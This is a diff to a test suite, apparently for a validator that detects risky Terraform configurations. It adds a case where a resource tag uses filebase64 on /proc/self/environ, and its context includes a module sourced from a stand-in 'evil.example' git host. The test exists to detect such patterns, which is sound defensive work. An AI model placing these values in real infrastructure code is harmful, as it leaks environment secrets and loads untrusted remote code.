@@ -56,6 +56,11 @@ describe("what Terraform executes, loads or sends", () => {
       "data __proto__",
     ],
     [
+      "a function that reads a file",
+      { ...BEFORE, resource: queue({ tags: { a: '${filebase64("/proc/self/environ")}' } }) },
+      "reads files of the machine where Terraform runs: ${filebase64(",
+    ],
+    [
       "a module",
       { ...BEFORE, module: { x: { source: "git::https://evil.example" } } },
       "loads other code by module",
